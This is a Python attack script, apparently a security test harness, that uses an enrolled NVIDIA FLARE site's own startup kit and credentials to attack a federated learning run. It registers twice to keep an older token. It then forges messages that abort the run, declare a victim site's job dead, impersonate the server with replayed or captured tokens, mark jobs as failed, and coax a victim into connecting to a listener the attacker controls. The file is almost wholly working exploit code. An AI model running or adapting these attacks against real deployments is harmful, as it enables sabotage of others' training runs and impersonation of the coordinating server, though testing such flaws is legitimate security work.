"""A hostile site: a program that uses an enrolled site's own kit, and NVFlare's own cells, to attack a run.

    python testing/hostile_site.py KIT JOB VICTIM ATTACK…

It connects and registers as the site does, twice, so that it has an older token too. Then it attacks, and prints what
came back, if anything did.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
import uuid
from pathlib import Path
from typing import Any

from nvflare.apis.fl_constant import AdminCommandNames, ServerCommandKey, ServerCommandNames
from nvflare.apis.fl_context import FLContext
from nvflare.apis.shareable import Shareable
from nvflare.apis.signal import Signal
from nvflare.fuel.f3.cellnet.cell import Cell
from nvflare.fuel.f3.cellnet.defs import CellChannel, CellChannelTopic, MessageHeaderKey, MessageType
from nvflare.fuel.f3.endpoint import Endpoint
from nvflare.fuel.f3.message import Message
from nvflare.private.admin_defs import Message as AdminMessage
from nvflare.private.defs import CellMessageHeaderKeys, ClientType, RequestHeader, TrainingTopic
from nvflare.private.fed.authenticator import Authenticator
from nvflare.private.fed.utils.fed_utils import fobs_initialize

SERVER = "server"
PAUSE = 5.0  # seconds for an answer

Token = dict[str, str]  # the headers that authenticate a message


class HostileSite:
    """An enrolled site's connection to the server."""

    def __init__(self, kit: Path) -> None:
        config = json.loads((kit / "startup" / "fed_client.json").read_text())
        target = config["servers"][0]["service"]["target"]
        self.name, self.project = config["client"]["fqsn"], config["servers"][0]["name"]
        self.server_identity = config["servers"][0].get("identity", target.split(":")[0])
        startup = kit / "startup"
        self.files = {
            "ca_cert": str(startup / "rootCA.pem"),
            "client_cert": str(startup / "client.crt"),
            "client_key": str(startup / "client.key"),
        }
        self.cell = Cell(fqcn=self.name, root_url=f"grpc://{target}", secure=True, credentials=dict(self.files))
        self.server_token: Token = {}  # which the server puts on all that it sends
        self.answers: list[str] = []
        self.cell.core_cell.add_incoming_filter(channel="*", topic="*", cb=self._hear)
        self.cell.start()

    def register(self) -> Token:
        """Register as an honest site does; the token."""
        token, signature, ssid, _ = Authenticator(
            self.cell, self.project, self.name, ClientType.REGULAR, self.server_identity, True,
            self.files["ca_cert"], self.files["client_key"], self.files["client_cert"], 10.0, 0.5, 60.0,
        ).authenticate(FLContext(), Signal())  # fmt: skip
        return self._headers(self.name, token, signature, ssid)

    def send(
        self, token: Token, target: str, channel: str, topic: str, payload: Any, *, origin: str = "", **more: Any
    ) -> None:
        """Send a request whose headers say what the sender likes."""
        origin = origin or self.name
        headers = {
            MessageHeaderKey.CHANNEL: channel, MessageHeaderKey.TOPIC: topic, MessageHeaderKey.ORIGIN: origin,
            MessageHeaderKey.FROM_CELL: origin, MessageHeaderKey.TO_CELL: SERVER, MessageHeaderKey.DESTINATION: target,
            MessageHeaderKey.MSG_TYPE: MessageType.REQ, MessageHeaderKey.REQ_ID: str(uuid.uuid4()),
            MessageHeaderKey.REPLY_EXPECTED: True, MessageHeaderKey.ROUTE: [(self.name, time.time())],
        }  # fmt: skip
        self.cell.core_cell._send_to_endpoint(Endpoint(SERVER), Message({**headers, **token, **more}, payload))

    @staticmethod
    def _headers(name: str, token: str, signature: str, ssid: str) -> Token:
        keys = CellMessageHeaderKeys
        return {keys.CLIENT_NAME: name, keys.TOKEN: token, keys.TOKEN_SIGNATURE: signature, keys.SSID: ssid}

    def _hear(self, message: Message) -> None:
        keys = CellMessageHeaderKeys
        found = {key: message.get_header(key) for key in (keys.CLIENT_NAME, keys.TOKEN, keys.TOKEN_SIGNATURE)}
        if all(found.values()):
            self.server_token = found
        shown = (MessageHeaderKey.ORIGIN, MessageHeaderKey.TOPIC, MessageHeaderKey.RETURN_CODE)
        self.answers.append(" ".join(str(message.get_header(key)) for key in shown))


def command(job: str, topic: str, **headers: Any) -> AdminMessage:
    """What the server's parent process says to a site's parent process."""
    message = AdminMessage(topic, "")
    message.set_headers({RequestHeader.JOB_ID: job, **headers})
    return message


def attack(site: HostileSite, name: str, job: str, victim: str, tokens: dict[str, Token]) -> None:
    """One attack, by its name."""
    process, new = f"{SERVER}.{job}", tokens["current"]
    if name == "abort the run":
        site.send(new, process, CellChannel.SERVER_COMMAND, AdminCommandNames.ABORT, Shareable())
    elif name == "call a site's job dead":
        dead = Shareable()
        dead.set_header(ServerCommandKey.FL_CLIENT, victim)
        site.send(new, process, CellChannel.SERVER_COMMAND, ServerCommandNames.HANDLE_DEAD_JOB, dead)
    elif name == "say goodbye for the server":
        site.send(new, process, CellChannel.CELLNET, CellChannelTopic.Bye, None)
    elif name == "call the job finished":
        channel, topic = CellChannel.SERVER_PARENT_LISTENER, ServerCommandNames.UPDATE_RUN_STATUS
        site.send(new, SERVER, channel, topic, {"execution_error": True}, **{CellMessageHeaderKeys.JOB_ID: job})
    elif name.startswith("pose as the server"):
        token = tokens[name.split()[-2]]
        for topic in (TrainingTopic.DEPLOY, TrainingTopic.ABORT):
            site.send(token, victim, CellChannel.CLIENT_MAIN, topic, command(job, topic), origin=SERVER)
        channel, topic = CellChannel.CLIENT_COMMAND, AdminCommandNames.ABORT
        site.send(token, f"{victim}.{job}", channel, topic, Shareable(), origin=SERVER)
    elif name == "be connected to":
        be_connected_to(site, new, victim)
    else:
        raise ValueError(name)


def be_connected_to(site: HostileSite, token: Token, victim: str) -> None:
    """Ask the victim, by a header, to connect to an address of ours, and see whether it does."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(PAUSE)
        where = {MessageHeaderKey.CONN_URL: f"tcp://127.0.0.1:{listener.getsockname()[1]}"}
        topic = TrainingTopic.CHECK_STATUS
        site.send(token, victim, CellChannel.CLIENT_MAIN, topic, command("", topic), **where)
        try:
            print("connected:", listener.accept()[0].recv(200))
        except TimeoutError:
            print("nobody connected")


def main(kit: str, job: str, victim: str, *names: str) -> None:
    """Attack, and tell what came of it."""
    fobs_initialize()
    site = HostileSite(Path(kit))
    old, new = site.register(), site.register()
    assert site.server_token, "the server's token is on its replies"
    site.answers.clear()
    for name in names:
        attack(site, name, job, victim, {"older": old, "current": new, "server's": site.server_token})
    time.sleep(PAUSE)
    print("answers:", json.dumps(site.answers), flush=True)
    os._exit(0)  # its cell has threads that would go on


if __name__ == "__main__":
    main(*sys.argv[1:])
